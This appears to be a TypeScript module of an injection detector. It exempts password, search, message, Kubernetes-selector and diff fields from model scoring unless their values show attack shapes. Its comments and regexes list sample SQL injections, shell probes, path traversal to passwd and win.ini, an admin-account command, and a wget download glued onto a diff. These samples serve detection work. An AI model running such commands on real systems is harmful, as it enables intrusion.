/**
 * What a field's own name says its value is, where that changes what counts as evidence (issue 14,
 * session 19: the worst false positives of payload-v1.4 on the benign families and blind sets).
 *
 * - **A password** is chosen to look like noise: a password manager's `G.SLE(="f)=0` or
 *   `F)BC4c(9>>.g,s~i%uuinx8` has quotes, parentheses and `=` in it by design, and the model reads
 *   such punctuation as code (0.82–0.99). An injection into a password field needs more than
 *   punctuation: SQL around its quote (`' or '1'='1`, `x' and sleep(5)#`), a comment or concatenation
 *   (`admin'--`, `'||'1'='1`), a bare tautology (`'='`, `'-'`), markup or an expression opener. So in a
 *   password field (`password`, `passwd`, `pwd`, `pass`, `new_password`, `user[password]`,
 *   `passwordConfirm`, `pass1`) the model is asked only when the value holds one of those
 *   (`passwordMayCarryAttack`); a signature hit on the field still sends it whatever it holds.
 * - **A search term** is the user's words: `echo dot`, `table for 2 or 3`, `union select mattress`,
 *   `WAITFOR DELAY syntax sql server` pass the lexical screen only because a SQL or shell word stands
 *   in text with spaces. In a search field (`q`, `s`, `search`, `query`, `term`, `keyword`,
 *   `search_term`) words and spaces alone cannot leave the string the application searches for: an
 *   injection there needs a quote, an operator, a comment, a bracket or a line break, which the
 *   screen's other clauses still pass (`isSearchProse`). A search value with any of them is scored as
 *   before, and so is a signature hit. Boolean search syntax groups words in parentheses
 *   (`(a OR b) AND NOT c`): a group of words alone is read as its words (`searchWithoutGroups`).
 * - **A Kubernetes selector** (`labelSelector`, `fieldSelector`, `selector`) is a small grammar:
 *   requirements joined by commas, each `key`, `!key`, `key=value`, `key==value`, `key!=value` or
 *   `key in (v1,v2)` / `key notin (…)`, with DNS-label keys and values. A value that is wholly such a
 *   selector (`metadata.namespace!=kube-system`, 0.98 in blind benign set 4) holds no quote, space
 *   outside the set syntax or operator beyond those, so it is not scored (`isLabelSelector`).
 * - **A diff hunk** (`diff_hunk`, `patch`, `diff`: a code review's comment on a line, a patch upload) is
 *   code under review: a unified diff whose removed line reads `os.system('rm -rf ' + tmpdir)` is the
 *   reviewer's subject. Its hunk header (`@@ -12,3 +12,4 @@`) or file header (`diff --git`, `--- a/…`)
 *   is a syntax error in any language the value could be run as, and a tool takes it as a patch; in a
 *   field of such a name a value that opens as a unified diff is not scored (`isUnifiedDiff`). A
 *   signature hit still sends it.
 */
import { INJECTION_WORDS, mayCarryAttackBeyondWords } from './screen.js';
import { fieldNameWords } from './path-mention.js';
import { tokenizePayload } from './tokenize.js';
import { KEYWORDS } from './vocabulary.js';

const PASSWORD_WORDS = new Set(['password', 'passwd', 'passwort', 'pwd', 'pass', 'passphrase', 'passcode']);

/** Whether a field of this name holds a password (`password`, `new_password`, `passwordConfirm`, `j_password`, `eael-pass1`). */
export function isPasswordFieldName(name: string): boolean {
  return namesPassword(fieldNameWords(name));
}

function namesPassword(words: readonly string[]): boolean {
  for (const word of words) {
    if (PASSWORD_WORDS.has(word.replace(/\d+$/, ''))) return true;
  }
  return false;
}

/** What a field's name says its value is, first match in this order; `none` when it says nothing the model gate uses. */
export type FieldIntent = 'password' | 'formula' | 'selector' | 'diff' | 'search' | 'message' | 'regex' | 'none';

/**
 * The intent of a field by its name, its words split once: a password (any word), else a Kubernetes
 * selector, a diff or a search term (the last word) — what isPasswordFieldName, isSelectorFieldName,
 * isDiffFieldName and isSearchFieldName say one by one.
 */
export function fieldIntentOfName(name: string): FieldIntent {
  const words = fieldNameWords(name);
  if (namesPassword(words)) return 'password';
  // A spreadsheet or table tool's formula (`formulas[1][0]`, `options.formula`, `formula_raw`): spreadsheet-formula.ts.
  if (words.includes('formula') || words.includes('formulas')) return 'formula';
  const last = words.at(-1);
  if (last === undefined) return 'none';
  if (last === 'selector') return 'selector';
  if (DIFF_WORDS.has(last)) return 'diff';
  if (SEARCH_WORDS.has(last)) return 'search';
  // A regular expression a tool searches or validates with (`regex`, `tier_regex`, `pattern`): regex-value.ts.
  if (REGEX_WORDS.has(last)) return 'regex';
  return MESSAGE_WORDS.has(last) ? 'message' : 'none';
}

/** The last word of a field that holds a regular expression (regex-value.ts). */
const REGEX_WORDS = new Set(['regex', 'regexp', 'pattern']);

/**
 * A message's text: the last word of the field's name says it holds what a person wrote to be read — a
 * chat or mail message, a comment, a prompt or a chat turn's `content`, a question or an answer, a note,
 * a description (`messages[2].content`, `comment`, `prompt`, `ticket[description]`). Such text is stored,
 * shown or sent on as a string; words and spaces alone cannot leave it, as in a search field (`and in
 * PowerShell?`, a follow-up turn of an LLM chat: 0.885 in blind benign set 6). So it is read as a search
 * term is, and stricter (`isMessageProse`).
 */
const MESSAGE_WORDS = new Set(['message', 'msg', 'content', 'text', 'comment', 'prompt', 'question', 'answer', 'reply', 'note', 'notes', 'description', 'caption']);

/**
 * Operator tokens of the model's lexer that belong to an injection grammar rather than to noise: comments,
 * concatenation and boolean operators, traversal, template and expression openers, a closing tag, `@@`.
 * (`>>`, `<<`, `::`, `//`, `==`, `..` and the like turn up in random passwords and mean nothing alone.)
 */
const INJECTION_OPERATORS = new Set(['<!--', '-->', '/*!', '../', '..\\', '/*', '*/', '--', '||', '&&', '${', '#{', '{{', '{%', '<%', '$(', '</', '@@']);

/**
 * Shapes of an injection that need no keyword, where a generated password puts none of them:
 * - whitespace anywhere (a generator never draws a space: `' DIV '`, `| sysinfo`, `' '`);
 * - a quote or backtick at the start (`'DIV'`, `'\"`), or a command separator there (`|nid`, `;id`, `&x;`);
 * - a quote closed into an operator, a comment, a statement end or another quote (`aa'|column!='`,
 *   `x'='x`, `'=(`, `admin'#`, `x';`, `'">`, `1""(`);
 * - a parenthesized comparison (`(8362=9139)*9139`), an LDAP filter's joints (`*)(&`, `*()|`, `(|(mail=*))`),
 *   markup (`<svg`, `<!`, `<?`), `@(` (Razor), a control character;
 * - a path or address shape: a leading slash or backslash, a drive (`C:/`), a scheme at the start
 *   (`http:0xd8.0x3a…`), `//`, `..`, a hex-spelled dot or slash (`0x2e`, `0x5c`), a sensitive file's name
 *   (`etc`, `passwd`, `system32`, `win.ini`): a password is never opened as a file or followed as a link,
 *   but a value of that shape is no generated password either (a double-encoded one shows it in its
 *   decoded forms).
 */
const KEYWORDLESS_INJECTION =
  // eslint-disable-next-line no-control-regex
  /\s|^['"`|;&/\\]|^[a-z]:[/\\]|^(?:https?|ftp|file|data|javascript|vbscript|jar|php|gopher|dict|ldap|expect|phar|zip):|\/\/|\.\.|0x[25][cef]|etc|passwd|system32|win\.ini|boot\.ini|\*\(|['"`][-=<>^&|*+/%!#;(),~'"`]|\(\w+[=<>!]+\w+\)|\)\(|\([|&!]|\*\)|<[a-z!?/]|@\(|[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]/i;

/**
 * Whether a password field's value (one form of it) holds what an injection needs beyond the punctuation a
 * generated password is made of: a keyword of the model's vocabulary as a whole word (SQL, script, shell,
 * template, path), an injection operator, or one of the keyword-less shapes above.
 */
export function passwordMayCarryAttack(text: string): boolean {
  if (KEYWORDLESS_INJECTION.test(text)) return true;
  for (const token of tokenizePayload(text.toLowerCase())) {
    if (KEYWORDS.has(token) || INJECTION_OPERATORS.has(token)) return true;
  }
  return false;
}

const SEARCH_WORDS = new Set(['search', 'query', 'term', 'terms', 'keyword', 'keywords', 'searchterm', 'searchquery', 'q', 's', 'qs', 'kw', 'wd',
  // A tag list is words the same way (a Q&A post's `tagnames=bash mysql`, session 20's tech-discussion family: 0.98).
  'tags', 'tagnames', 'labels', 'topics',
  // A field named for the query language it holds is a search in it (Kibana's `filter[0].kql`, an alert's `lucene`, a rule's `eql`).
  'kql', 'lucene', 'eql', 'esql', 'logql', 'promql', 'spl', 'nrql', 'ppl', 'lql', 'dql']);

/**
 * Whether a field of this name holds a search term: the last word of its name is `q`, `s`, `search`, `query`,
 * `term`, `keyword(s)` (`search_term`, `ep.search_term`, `searchQuery`, `filter[search]`), or a tag list
 * (`tags`, `tagnames`, `labels`, `topics`). Only the last word:
 * an XML path such as `s:Body/p:command` holds an `s` that is a namespace prefix.
 */
export function isSearchFieldName(name: string): boolean {
  const words = fieldNameWords(name);
  return words.length > 0 && SEARCH_WORDS.has(words[words.length - 1]);
}

/**
 * What keeps words and spaces from being a search term: a value that opens with a number, a sign, a path,
 * a dot or a space (`-52 union select`, `14968 order by 5`, ` or true`, `/bin/ls -al`: the value an
 * application expected, then SQL); that opens with a SQL clause on a literal (`AND 1`, `or true`,
 * `ORDER BY 3`, `select 1 from foo`, `select @@version`, `SELECT 0x…`); a file name (`dbase.php`); or a
 * command line — a command first and then an option, an address, a path or another command (`uname -a`,
 * `wget https://…`, `which perl`, `net localgroup Administrators hacker /ADD`), `sleep 5` as the whole value,
 * or a bare probe (`whoami`, `uname`).
 */
const NOT_PROSE =
  /^[\s\d+\-./\\]|^(?:and|or|xor|not|select|having|where|limit|procedure|(?:order|group)\s+by|union(?:\s+all)?(?:\s+select)?)\s+(?:\d|@@|0x|true\b|false\b|null\b)|\w\.[a-z]|^(?:curl|wget|uname|which|whoami|id|ls|cat|nc|ncat|netcat|bash|sh|zsh|ping|nslookup|dig|net|netstat|netsh|ifconfig|ipconfig|systeminfo|tasklist|powershell|pwsh|cmd|python3?|perl|php|ruby|node|echo|sleep|rm|chmod|type|dir|reg|wmic|certutil|sudo|nohup|env|printenv|kill|ps)(?:\s+\S+)*?\s+(?:-{1,2}[a-z]|\/[a-z]|\S*:\/\/|(?:curl|wget|uname|whoami|id|ls|cat|nc|ncat|bash|sh|python3?|perl|php|ruby|node|powershell|cmd)\b)|^(?:sleep|ping|timeout)\s+\d+$|^(?:curl|wget|uname|whoami|id|ls|pwd|netstat|systeminfo|tasklist|ifconfig|ipconfig|hostname|route|sysinfo)$/i;

/**
 * Whether a search field's value (one form of it, which passed the screen) is a search term in words: it
 * passed the screen by a SQL or shell word alone, on one line, and has none of the shapes above. Such a
 * value is not scored in a search field (`echo box`, `table for 2 or 3`, `union select mattress`).
 */
export function isSearchProse(text: string): boolean {
  if (text.includes('\n') || text.includes('\r')) return false;
  const words = searchWithoutGroups(text);
  return !mayCarryAttackBeyondWords(words) && !NOT_PROSE.test(words);
}

/** An upper-case boolean operator of search syntax, as a whole word. */
const BOOLEAN_OPERATOR = /(?:^|[\s(])(?:AND|OR|NOT)(?=[\s)]|$)/;
/** A parenthesized group of words, opened at a word start and closed at a word end. */
const WORD_GROUP = /(^|[\s(])\(([\p{L}\p{N} _-]+)\)(?=$|[\s)])/gu;

/**
 * A boolean search (`(a OR b) AND NOT c`, `(red OR blue) shirt`) with its word groups read as their words;
 * anything else, or a value with a parenthesis left over (`x) OR (1`, `exists(select`), as it is.
 */
function searchWithoutGroups(text: string): string {
  if (!text.includes('(') || !BOOLEAN_OPERATOR.test(text)) return text;
  let out = text;
  for (let i = 0; i < 8 && out.includes('('); i++) out = out.replace(WORD_GROUP, '$1 $2 ');
  if (out.includes('(') || out.includes(')')) return text;
  return out.replace(/\s+/g, ' ').trim();
}

/**
 * What makes a message's words code rather than prose, beyond `isSearchProse`'s shapes: a SQL or shell word
 * as its first word (`select @version foo`, `net view`, `netsh firewall set opmode disable`), or a SQL
 * statement's clauses in their order (`… union select a from b`, `select … from`, `CASE WHEN … END`,
 * `… FOR UPDATE`). A prompt or a comment reads as a sentence whose first word is no command; the shared
 * corpora's SQL and command fragments sent as a `comment` or `message` open as code, and stay scored.
 */
const MESSAGE_CODE = new RegExp(
  `^[^\\p{L}\\p{N}]*${INJECTION_WORDS.source}|\\bunion\\b[\\s\\S]*\\bselect\\b|\\bselect\\b[\\s\\S]*\\bfrom\\b|\\bcase\\s+when\\b|\\bfor\\s+update\\b`,
  'iu',
);

/**
 * Whether a message field's value (one form of it, which passed the screen) is prose: a search term in words
 * (`isSearchProse`) that does not open or go on as code (`MESSAGE_CODE`). Such a value is not scored in a
 * message field (`and in PowerShell?`); a quote, operator, bracket, path, markup, a command line (`bash -i`,
 * `sleep 5`, `whoami`, `net view`), SQL (`union all select null`, `select @version foo`) or a line break
 * still sends it, and so does a signature hit.
 */
export function isMessageProse(text: string): boolean {
  const words = text.includes('--') ? withoutLongOptions(text) : text;
  return isSearchProse(words) && !MESSAGE_CODE.test(words);
}

/**
 * A chat command's long options (`--env=prod`, `--canary=10%`, `--dry-run`): a word after a space, two dashes, a
 * letter, and at most `=` and a plain value (words, numbers, `.`, `:`, `,`, `-`, a trailing `%`). A chat-ops
 * slash command's `text` (`api v2.14.3 --env=prod --canary=10%`, blind benign set 5: 0.80) passes the screen
 * by its `--` alone, which SQL reads as a comment only after a value, not glued to the next word's letters.
 */
const LONG_OPTION = /(^|\s)--[a-z][\w-]{0,40}(?:=[\w.:,-]{0,80}%?)?(?=\s|$)/gi;

function withoutLongOptions(text: string): string {
  // Each option read as a word, so what stands around it is screened as before (`x' --foo` keeps its quote).
  return text.replace(LONG_OPTION, '$1option');
}

/** Whether a field of this name holds a Kubernetes label or field selector (`labelSelector`, `fieldSelector`, `selector`). */
export function isSelectorFieldName(name: string): boolean {
  const words = fieldNameWords(name);
  return words.length > 0 && words[words.length - 1] === 'selector';
}

const SELECTOR_KEY = '(?:[a-z0-9](?:[-a-z0-9.]{0,251}[a-z0-9])?\\/)?[A-Za-z0-9](?:[-A-Za-z0-9_.]{0,61}[A-Za-z0-9])?';
const SELECTOR_VALUE = '(?:[A-Za-z0-9](?:[-A-Za-z0-9_.]{0,61}[A-Za-z0-9])?)?';
const SELECTOR_REQUIREMENT = `(?:!${SELECTOR_KEY}|${SELECTOR_KEY}(?:\\s*(?:==?|!=)\\s*${SELECTOR_VALUE}|\\s+(?:in|notin)\\s*\\(\\s*${SELECTOR_VALUE}(?:\\s*,\\s*${SELECTOR_VALUE}){0,50}\\s*\\))?)`;
const LABEL_SELECTOR = new RegExp(`^\\s*${SELECTOR_REQUIREMENT}(?:\\s*,\\s*${SELECTOR_REQUIREMENT}){0,50}\\s*$`);

/** Whether `text` is wholly a Kubernetes label or field selector (apimachinery's grammar; keys and values DNS labels). */
export function isLabelSelector(text: string): boolean {
  return text.length <= 4096 && LABEL_SELECTOR.test(text);
}

const DIFF_WORDS = new Set(['diff', 'diffhunk', 'hunk', 'patch']);

/** Whether a field of this name holds a diff: the last word of its name is `diff`, `hunk`, `patch` (`diff_hunk`, `patch`, `mr[diff]`). */
export function isDiffFieldName(name: string): boolean {
  const words = fieldNameWords(name);
  return words.length > 0 && DIFF_WORDS.has(words[words.length - 1]);
}

const UNIFIED_DIFF = /^(?:@@ -\d+(?:,\d+)? \+\d+(?:,\d+)? @@|diff --git a\/|--- (?:a\/|\/dev\/null))/;

/**
 * A line of a unified diff: a context, added or removed line (` `, `+`, `-`), a hunk header, `\ No newline at end of
 * file`, or a file header of `git diff` (`diff --git`, `index`, modes, renames, `Binary files … differ`); empty lines too.
 */
const DIFF_LINE = /^(?:[ +\-\\]|@@ |diff --git |index [0-9a-f]|(?:new|deleted) file mode |(?:old|new) mode |similarity index |dissimilarity index |rename (?:from|to) |copy (?:from|to) |Binary files |\r?$)/;

/**
 * Whether `text` is a unified diff: it opens with a hunk header, `diff --git a/`, or a `--- a/` file header, and
 * every line is a diff's. Session 33 (adv33, datasets/shape-carriers.ts): a payload glued after the last line
 * (`+const b = 3;\n&& wget http://x/x -O /tmp/x`) or on a line of its own is no line of the diff, and kept a value
 * that only opened as one out of the model.
 */
export function isUnifiedDiff(text: string): boolean {
  if (!UNIFIED_DIFF.test(text)) return false;
  for (let start = text.indexOf('\n') + 1; start > 0 && start < text.length; ) {
    const end = text.indexOf('\n', start);
    if (!DIFF_LINE.test(text.slice(start, end < 0 ? text.length : end))) return false;
    start = end + 1;
  }
  return true;
}
